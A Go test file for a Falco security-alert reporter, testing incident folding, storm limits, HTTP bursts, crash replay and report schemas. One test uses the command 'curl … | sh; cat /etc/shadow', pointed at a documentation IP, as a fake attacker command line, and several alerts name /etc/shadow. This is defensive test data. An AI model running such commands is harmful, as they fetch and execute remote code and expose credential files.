package app

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/rs/zerolog"

	"github.com/falco-reporter/falco-reporter/internal/config"
	"github.com/falco-reporter/falco-reporter/internal/event"
	"github.com/falco-reporter/falco-reporter/internal/report"
	"github.com/falco-reporter/falco-reporter/internal/spool"
	"github.com/falco-reporter/falco-reporter/internal/stream"
)

// runAll runs the app over the alerts of src until it has written them
// all, as ingest does, and returns the metrics.
func runAll(t *testing.T, cfg *config.Config, opts Options) *Metrics {
	t.Helper()
	metrics := make(chan *Metrics, 1)
	opts.metricsOut = metrics
	if opts.Logger.GetLevel() == zerolog.DebugLevel {
		opts.Logger = zerolog.New(io.Discard)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	if err := Run(ctx, cfg, opts); err != nil {
		t.Fatal(err)
	}
	return <-metrics
}

// diskReports reads every JSON report under dir.
func diskReports(t *testing.T, dir string) []report.Report {
	t.Helper()
	files, _ := filepath.Glob(filepath.Join(dir, "*", "*.json"))
	var out []report.Report
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		var r report.Report
		if err := json.Unmarshal(data, &r); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		out = append(out, r)
	}
	return out
}

// TestFloodKeepsEarlierEvidence: one Critical alert, then 100,000 alerts
// of one rule that are each a distinct incident, with room for 20 reports.
// The Critical report survives, and the flood writes no more than the
// storm threshold plus one storm report.
func TestFloodKeepsEarlierEvidence(t *testing.T) {
	const flood = 100_000
	cfg := testConfig(t)
	cfg.Reports.Retention = config.Retention{MaxFiles: 20}
	col := newCollector()
	src := &directSource{n: flood + 1, alerts: func(i int) event.Alert {
		if i == 0 {
			a := alert("Terminal shell in container", 0)
			a.Priority = event.PriorityCritical
			a.Fields["container.id"] = event.Str("3ad7b26ded6d")
			return a
		}
		return alert("Read sensitive file untrusted", i) // each its own file
	}}
	m := runAll(t, cfg, Options{Sources: []stream.Source{src}, Written: col.written})

	floodReports, storms, total := 0, 0, 0
	for _, r := range col.reports {
		total += r.Occurrences
		if r.Rule == "Read sensitive file untrusted" {
			floodReports++
			if r.Storm != nil {
				storms++
			}
		}
	}
	if want := cfg.Incidents.Storm.Incidents + 1; floodReports > want || storms != 1 {
		t.Errorf("the flood wrote %d reports (%d storms), want at most %d with one storm", floodReports, storms, want)
	}
	if total != flood+1 {
		t.Errorf("occurrences add up to %d, want %d", total, flood+1)
	}
	if got := testutil.ToFloat64(m.Storms); got != 1 {
		t.Errorf("storms_total = %v, want 1", got)
	}
	onDisk := diskReports(t, cfg.Reports.Dir)
	if len(onDisk) != 20 {
		t.Errorf("%d reports on disk, want max_files = 20", len(onDisk))
	}
	critical, storm := false, false
	for _, r := range onDisk {
		critical = critical || r.Priority == "Critical"
		if r.Storm != nil {
			storm = true
			if r.Occurrences != flood-cfg.Incidents.Storm.Incidents || len(r.Storm.Before) != cfg.Incidents.Storm.Incidents {
				t.Errorf("storm report: %d occurrences, %d incidents before", r.Occurrences, len(r.Storm.Before))
			}
			if len(r.Storm.Fields) == 0 || r.Storm.Fields[len(r.Storm.Fields)-1].Field != "fd.name" {
				t.Errorf("storm fields = %+v", r.Storm.Fields)
			}
		}
	}
	if !critical {
		t.Error("the Critical report written before the flood was deleted")
	}
	if !storm {
		t.Error("the storm report was deleted")
	}
}

// TestStormEndsAfterAQuietWindow: a storm ends once its rule has been
// quiet for a whole window; the next alert opens an incident again.
func TestStormEndsAfterAQuietWindow(t *testing.T) {
	cfg := testConfig(t)
	// The window is long enough for ten alerts to arrive within it on a
	// loaded machine; the sleep makes the quiet window certain.
	const window = 2 * time.Second
	cfg.Incidents.Storm = config.Storm{Incidents: 3, Window: window}
	cfg.Incidents.Window = 100 * time.Millisecond
	src := &chanSource{ch: make(chan event.Alert)}
	col := newCollector()
	stop := start(t, cfg, Options{Sources: []stream.Source{src}, Written: col.written})
	for i := range 10 {
		src.ch <- alert("Read sensitive file untrusted", i)
	}
	time.Sleep(window + 100*time.Millisecond)
	src.ch <- alert("Read sensitive file untrusted", 10) // after the quiet window
	if err := stop(); err != nil {
		t.Fatal(err)
	}
	var storms []report.Report
	for _, r := range col.reports {
		if r.Storm != nil {
			storms = append(storms, r)
		}
	}
	if len(col.reports) != 5 || len(storms) != 1 || storms[0].Occurrences != 7 || !storms[0].Storm.Ended {
		t.Fatalf("%d reports, storms %+v", len(col.reports), storms)
	}
}

// TestHTTPBurstIsNotRefused: with an in-memory queue of one alert, a burst
// of 2,000 posts over 32 connections is accepted whole, because the spool
// is the buffer.
func TestHTTPBurstIsNotRefused(t *testing.T) {
	const posts = 2000
	cfg := testConfig(t)
	cfg.Queue.Size = 1
	cfg.Falco.HTTP = config.DefaultHTTP()
	cfg.Falco.HTTP.Listen = freeAddr(t)
	col := newCollector()
	ready := make(chan struct{})
	stop := start(t, cfg, Options{Written: col.written, Ready: ready})
	<-ready
	var next, ok atomic.Int64
	var wg sync.WaitGroup
	body := func(i int) []byte {
		return []byte(fmt.Sprintf(`{"output":"o","output_fields":{"fd.name":"/etc/shadow","proc.exepath":"/usr/bin/cat","proc.cmdline":"cat #%d"},"priority":"Warning","rule":"Read sensitive file untrusted","source":"syscall","hostname":"h","time":"2026-04-02T10:00:00.%09dZ"}`, i, i))
	}
	for range 32 {
		wg.Go(func() {
			for i := int(next.Add(1) - 1); i < posts; i = int(next.Add(1) - 1) {
				for try := 0; ; try++ {
					resp, err := http.Post("http://"+cfg.Falco.HTTP.Listen+"/", "application/json", bytes.NewReader(body(i)))
					if err != nil && try < 50 {
						time.Sleep(20 * time.Millisecond) // not listening yet
						continue
					}
					if err != nil {
						t.Error(err)
						return
					}
					_, _ = io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
					if resp.StatusCode == http.StatusOK {
						ok.Add(1)
					} else {
						t.Errorf("post %d: %s", i, resp.Status)
					}
					break
				}
			}
		})
	}
	wg.Wait()
	waitFor(t, "every alert reported", func() bool { _, total := col.occurrences(); return total == posts })
	if err := stop(); err != nil {
		t.Fatal(err)
	}
	if ok.Load() != posts {
		t.Errorf("%d of %d posts accepted", ok.Load(), posts)
	}
}

// TestUnsyncedReportRepairedByReplay: a crash of the machine after a report
// was renamed into place but before the syncfs can leave the file empty
// or short. Such a crash also comes before the checkpoint, so the spool
// still holds the alerts, and the replay rewrites the file whole.
func TestUnsyncedReportRepairedByReplay(t *testing.T) {
	cfg := testConfig(t)
	src := &directSource{n: 30, alerts: func(i int) event.Alert {
		a := alert("Read sensitive file untrusted", i)
		a.Fields["fd.name"] = event.Str(fmt.Sprintf("/etc/secret-%d", i%3))
		return a
	}}
	// The "crash": reports written and renamed, no checkpoint.
	runAll(t, cfg, Options{Sources: []stream.Source{src}, noCheckpoint: true})
	files, _ := filepath.Glob(filepath.Join(cfg.Reports.Dir, "*", "*"))
	if len(files) != 6 {
		t.Fatalf("%d report files, want 6", len(files))
	}
	want := map[string][]byte{}
	for i, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		want[f] = data
		switch i % 3 {
		case 0:
			err = os.Truncate(f, 0) // renamed, data never written
		case 1:
			err = os.Truncate(f, int64(len(data)/2)) // written in part
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	// The restart replays the spool and rewrites the same files.
	runAll(t, cfg, Options{Sources: []stream.Source{&directSource{}}})
	for f, data := range want {
		got, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, data) {
			t.Errorf("%s not repaired: %d bytes, want %d", filepath.Base(f), len(got), len(data))
		}
	}
	if files2, _ := filepath.Glob(filepath.Join(cfg.Reports.Dir, "*", "*")); len(files2) != 6 {
		t.Errorf("%d report files after the replay, want the same 6", len(files2))
	}
}

// TestSamplesShowTheLastValue: "Terminal shell in container" does not
// fold on the command line. After ten decoy command lines the eleventh,
// the one that matters, is in the report, which says how many values it
// does not show.
func TestSamplesShowTheLastValue(t *testing.T) {
	cfg := testConfig(t)
	const evil = "curl -s http://203.0.113.9/x|sh; cat /etc/shadow"
	src := &directSource{n: 30, alerts: func(i int) event.Alert {
		a := alert("Terminal shell in container", i)
		a.Fields["container.id"] = event.Str("3ad7b26ded6d")
		a.Fields["proc.cmdline"] = event.Str(fmt.Sprintf("bash -c decoy-%d", i))
		if i == 29 {
			a.Fields["proc.cmdline"] = event.Str(evil)
		}
		return a
	}}
	col := newCollector()
	runAll(t, cfg, Options{Sources: []stream.Source{src}, Written: col.written})
	if len(col.reports) != 1 {
		t.Fatalf("%d reports, want 1", len(col.reports))
	}
	r := col.reports[firstID(col)]
	got := r.Samples["proc.cmdline"]
	if len(got) != sampleFirst+sampleRecent || got[len(got)-1] != evil || got[0] != "bash -c decoy-1" {
		t.Errorf("samples = %q", got)
	}
	if n := r.SamplesNotShown["proc.cmdline"]; n.Values != 29-len(got) || n.AtLeast {
		t.Errorf("not shown = %+v, want %d", n, 29-len(got))
	}
	md, err := os.ReadFile(col.paths[r.ID])
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(md), "203.0.113.9") || !strings.Contains(string(md), "19 more distinct values not shown") {
		t.Errorf("the Markdown report does not show the last command line and the count:\n%s", md)
	}
}

// TestBadDayDirectory: a day directory that is a symlink does not stop the
// reports of that day nor of others.
func TestBadDayDirectory(t *testing.T) {
	cfg := testConfig(t)
	if err := os.MkdirAll(cfg.Reports.Dir, 0o750); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(t.TempDir(), filepath.Join(cfg.Reports.Dir, "2026-04-02")); err != nil {
		t.Fatal(err)
	}
	src := &directSource{n: 4, alerts: func(i int) event.Alert {
		a := alert("Read sensitive file untrusted", i)
		a.Time = a.Time.Add(time.Duration(i%2) * 24 * time.Hour) // 2026-04-02 and 2026-04-03
		return a
	}}
	col := newCollector()
	var logs bytes.Buffer // written by Run and by its writer goroutine
	m := runAll(t, cfg, Options{Sources: []stream.Source{src}, Written: col.written, Logger: zerolog.New(zerolog.SyncWriter(&logs))})
	if n, _ := col.occurrences(); n != 4 {
		t.Fatalf("%d reports, want 4", n)
	}
	for _, p := range col.paths {
		if !strings.Contains(p, "/2026-04-02_1/") && !strings.Contains(p, "/2026-04-03/") {
			t.Errorf("report written to %s", p)
		}
	}
	if n := strings.Count(logs.String(), "fallback directory"); n != 1 {
		t.Errorf("%d log lines about the fallback, want 1:\n%s", n, logs.String())
	}
	if testutil.ToFloat64(m.WriteErrors) != 0 {
		t.Error("write errors counted")
	}
}

func freeAddr(t *testing.T) string {
	t.Helper()
	addr, err := freeTCP()
	if err != nil {
		t.Fatal(err)
	}
	return addr
}

// TestReportJSONIsDocumented: every key of a folded incident's and of a
// storm's JSON report is described in docs/report-schema.json.
func TestReportJSONIsDocumented(t *testing.T) {
	data, err := os.ReadFile("../../docs/report-schema.json")
	if err != nil {
		t.Fatal(err)
	}
	var schema struct {
		Properties map[string]struct {
			Properties map[string]json.RawMessage `json:"properties"`
		} `json:"properties"`
	}
	if err := json.Unmarshal(data, &schema); err != nil {
		t.Fatal(err)
	}
	cfg := testConfig(t)
	cfg.Incidents.Storm.Incidents = 2
	src := &directSource{n: 10, alerts: func(i int) event.Alert {
		a := alert("Read sensitive file untrusted", i)
		if i%2 == 0 {
			a.Fields["fd.name"] = event.Str("/etc/shadow")
		}
		return a
	}}
	runAll(t, cfg, Options{Sources: []stream.Source{src}})
	files, _ := filepath.Glob(filepath.Join(cfg.Reports.Dir, "*", "*.json"))
	storms := 0
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		var r map[string]json.RawMessage
		if err := json.Unmarshal(data, &r); err != nil {
			t.Fatal(err)
		}
		for k := range r {
			if _, ok := schema.Properties[k]; !ok {
				t.Errorf("%s: key %q is not in the schema", filepath.Base(f), k)
			}
		}
		if raw, ok := r["storm"]; ok {
			storms++
			var st map[string]json.RawMessage
			_ = json.Unmarshal(raw, &st)
			for k := range st {
				if _, ok := schema.Properties["storm"].Properties[k]; !ok {
					t.Errorf("storm key %q is not in the schema", k)
				}
			}
		}
	}
	if storms != 1 {
		t.Errorf("%d storm reports, want 1", storms)
	}
}

// TestRestartContinuesIncidents: an incident open at a clean stop goes on
// folding after the restart, in the same report.
func TestRestartContinuesIncidents(t *testing.T) {
	cfg := testConfig(t)
	same := func(i int) event.Alert {
		a := alert("Read sensitive file untrusted", i)
		a.Fields["fd.name"] = event.Str("/etc/shadow")
		return a
	}
	col := newCollector()
	runAll(t, cfg, Options{Sources: []stream.Source{&directSource{n: 10, alerts: same}}, Written: col.written})
	runAll(t, cfg, Options{Sources: []stream.Source{&directSource{n: 10, alerts: func(i int) event.Alert { return same(10 + i) }}}, Written: col.written})
	if len(col.reports) != 1 {
		t.Fatalf("%d reports, want 1", len(col.reports))
	}
	if r := col.reports[firstID(col)]; r.Occurrences != 20 || r.Spool == nil || r.Spool.First != 1 || r.Spool.Last != 20 {
		t.Errorf("report: %d occurrences, spool %+v", r.Occurrences, r.Spool)
	}
}

// TestUpdatesDuringAFlood: a report folding a flood is rewritten every
// update interval while the writer is busy, not only once it is idle. The
// flood waits in the spool, so the writer never runs out of work.
func TestUpdatesDuringAFlood(t *testing.T) {
	const n = 400_000 // a flood of seconds: several updates are due during it
	cfg := testConfig(t)
	cfg.Incidents.UpdateInterval = 50 * time.Millisecond
	spoolFlood(t, cfg.StateDir, n)
	// Each write notes how much of the flood had been applied by then.
	var m *Metrics
	ready := make(chan struct{})
	var mu sync.Mutex
	var during []time.Time // writes while alerts of the flood were still to apply
	var done time.Time     // when the whole flood was applied
	written := func(r *report.Report, _ string) {
		<-ready
		mu.Lock()
		defer mu.Unlock()
		if r.Occurrences < n {
			during = append(during, time.Now())
		} else if done.IsZero() {
			done = time.Now()
		}
	}
	metrics := make(chan *Metrics, 1)
	start(t, cfg, Options{Sources: []stream.Source{&chanSource{ch: make(chan event.Alert)}}, Written: written, metricsOut: metrics})
	m = <-metrics
	close(ready)
	waitFor(t, "every alert reported", func() bool { return testutil.ToFloat64(m.Reported) == n })
	mu.Lock()
	defer mu.Unlock()
	if len(during) == 0 {
		t.Fatal("no write while the flood was applied, not even the report's first")
	}
	took := done.Sub(during[0])
	every := max(cfg.Incidents.UpdateInterval, tickEvery)
	if took < 4*every {
		t.Skipf("the writer applied all %d alerts in %v: too fast to tell", n, took)
	}
	// One write when the incident opened, then one per update interval
	// (half of them, for a loaded machine).
	if want := 1 + int(took/every)/2; len(during) < want {
		t.Errorf("%d writes in the %v the flood took, want at least %d (updates every %v)", len(during), took, want, every)
	}
}

// spoolFlood puts n alerts of one incident in the spool under stateDir, as
// an earlier run left them: a backlog the writer applies at start.
func spoolFlood(t *testing.T, stateDir string, n int) {
	t.Helper()
	sp, err := spool.Open(spool.Options{Dir: filepath.Join(stateDir, "spool"), MaxBytes: 1 << 30})
	if err != nil {
		t.Fatal(err)
	}
	for i := range n {
		a := alert("Read sensitive file untrusted", i)
		a.Fields["fd.name"] = event.Str("/etc/shadow")
		b, _ := spool.AppendEntry(nil, &spool.Entry{Alert: a, Received: time.Unix(1775124000, int64(i)), Input: "grpc", Run: 1})
		if _, err := sp.Append(b); err != nil {
			t.Fatal(err)
		}
	}
	if err := sp.Close(); err != nil {
		t.Fatal(err)
	}
}
